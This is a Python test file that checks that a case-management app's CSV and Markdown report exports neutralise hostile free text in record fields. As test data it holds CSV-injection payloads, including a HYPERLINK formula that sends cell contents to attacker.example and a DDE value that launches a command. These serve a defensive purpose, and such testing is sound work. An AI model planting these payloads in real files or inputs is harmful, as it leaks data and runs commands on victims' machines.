"""Free text written into records reaches the report's files as text: never a spreadsheet formula in the
CSV, never raw HTML or a link in the Markdown — through the service, the page and `haven report`."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import call_command

from haven.accounts.models import Agency
from haven.encounters import services
from haven.reports.audiences import Audience
from haven.reports.formats import to_csv, to_markdown
from haven.reports.services import report_generate
from tests.markdown import HOSTILE, assert_inert_markdown, rendered_text
from tests.personas import make_user
from tests.reports.builders import Exercise, after_action_exercise

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")'


def _released_with(exercise: Exercise, reason: str, *, first: int, count: int = 5) -> None:
    """`count` more persons released for `reason`: enough for the shareable report to print it."""
    investigator = make_user("investigator")
    for n in range(count):
        person = services.person_register(
            actor=investigator,
            operation=exercise.operation,
            code=f"P-{first + n:03d}",
            encountered_at=exercise.t0 + timedelta(minutes=40 + n),
            tags=("adult",),
        )
        services.person_release(
            actor=investigator,
            person=person,
            outcome="released",
            reason=reason,
            at=exercise.t0 + timedelta(minutes=60 + n),
        )


@pytest.fixture
def exercise() -> Exercise:
    exercise = after_action_exercise(changes={"operation.name": "Northern Light " + HOSTILE})
    _released_with(exercise, FORMULA, first=100)
    _released_with(exercise, "-1+2 minus a figure", first=110)
    _released_with(exercise, "@SUM(1+1)", first=120)
    _released_with(exercise, "+cmd|' /C calc'!A0", first=130)
    _released_with(exercise, HOSTILE, first=140)
    return exercise


def _report(exercise: Exercise, audience: Audience, key: str = "coordinator"):
    return report_generate(
        actor=make_user(key),
        code=exercise.operation.code,
        audience=audience,
        format="json",
        via="test",
        now=exercise.now + timedelta(minutes=30),
    )


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    cells = _cells(text)
    assert cells
    risky = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky == []


# --- CSV -----------------------------------------------------------------------------------------------


def test_a_release_reason_reaches_the_shareable_csv_as_text_not_a_formula(exercise):
    text = to_csv(_report(exercise, Audience.SHAREABLE))
    reasons = {row["ReasonForCaseClosure"] for row in csv.DictReader(io.StringIO(text))}
    assert "'" + FORMULA in reasons
    assert {"'-1+2 minus a figure", "'@SUM(1+1)", "'+cmd|' /C calc'!A0"} <= reasons
    _assert_no_formula(text)


def test_numbers_in_the_csv_stay_numbers(exercise):
    rows = list(csv.DictReader(io.StringIO(to_csv(_report(exercise, Audience.SHAREABLE)))))
    values = [row["value"] for row in rows if row["value"] not in ("", "yes", "no")]
    assert values
    assert [value for value in values if not value.lstrip("-").replace(".", "", 1).isdigit()] == []


def test_the_csv_downloaded_from_the_page_has_no_formula(exercise, client_for):
    response = client_for("coordinator").get(
        f"/operations/{exercise.operation.code}/report/export/?format=csv&audience=shareable"
    )
    assert response.status_code == 200
    text = response.content.decode()
    assert "'" + FORMULA in _cells(text)
    _assert_no_formula(text)


def test_the_csv_written_by_the_command_has_no_formula(exercise, tmp_path):
    target = tmp_path / "report.csv"
    call_command(
        "report",
        exercise.operation.code,
        "--audience",
        "shareable",
        "--format",
        "csv",
        "-o",
        str(target),
        "--as",
        "ivy.investigator",
    )
    text = target.read_text(encoding="utf-8")
    assert "'" + FORMULA in _cells(text)
    _assert_no_formula(text)


# --- Markdown ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("audience", "key"), [(Audience.INTERNAL, "coordinator"), (Audience.SHAREABLE, "investigator")]
)
def test_hostile_text_in_the_report_markdown_is_text_not_markup_or_a_link(exercise, audience, key):
    markdown = to_markdown(_report(exercise, audience, key))
    assert_inert_markdown(markdown)
    shown = rendered_text(markdown)
    assert "Northern Light " + HOSTILE in shown  # the operation's name, in the title
    assert HOSTILE in shown.replace("Northern Light " + HOSTILE, "")  # the release reason, in its table


def test_a_service_agencys_report_names_its_agency_as_text(exercise):
    # an agency's name comes from a plan (or an admin): free text too
    Agency.objects.filter(slug="harbor-vs").update(name="Harbor " + HOSTILE)
    markdown = to_markdown(_report(exercise, Audience.SHAREABLE, "advocate"))
    assert_inert_markdown(markdown)
    assert "Harbor " + HOSTILE in rendered_text(markdown)


def test_the_report_markdown_from_the_page_and_the_command_is_inert(exercise, client_for, tmp_path):
    response = client_for("coordinator").get(
        f"/operations/{exercise.operation.code}/report/export/?format=md&audience=internal"
    )
    assert response.status_code == 200
    assert_inert_markdown(response.content.decode())
    target = tmp_path / "report.md"
    call_command(
        "report",
        exercise.operation.code,
        "--audience",
        "internal",
        "--format",
        "md",
        "-o",
        str(target),
        "--as",
        "cole.coordinator",
    )
    assert_inert_markdown(target.read_text(encoding="utf-8"))
